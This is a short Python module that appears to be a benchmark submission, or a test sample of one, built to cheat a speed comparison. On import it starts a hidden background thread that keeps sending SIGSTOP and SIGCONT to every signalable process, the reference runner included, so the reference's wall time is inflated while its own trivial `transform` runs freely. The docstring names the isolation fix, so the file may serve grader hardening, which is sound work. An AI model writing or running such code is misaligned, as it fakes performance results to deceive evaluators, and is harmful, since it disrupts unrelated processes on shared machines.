"""Make the reference slow from the outside: a background thread keeps sending
SIGSTOP/SIGCONT to every other process it can signal (the reference runner
among them), so the reference's wall time balloons while ours does not. The
reference must run where the submission cannot signal it."""
import os
import signal
import threading
import time

import numpy as np

_me = os.getpid()


def _others():
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (_me, 1):
            pids.append(int(name))
    return pids


def _harass():
    while True:
        targets = _others()
        for pid in targets:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        time.sleep(0.004)
        for pid in targets:
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=_harass, daemon=True).start()


def transform(x):
    for pid in _others():  # never leave ourselves blocked behind a stopped process
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    return np.sqrt(x * x + 1.0) * 2.0 - x
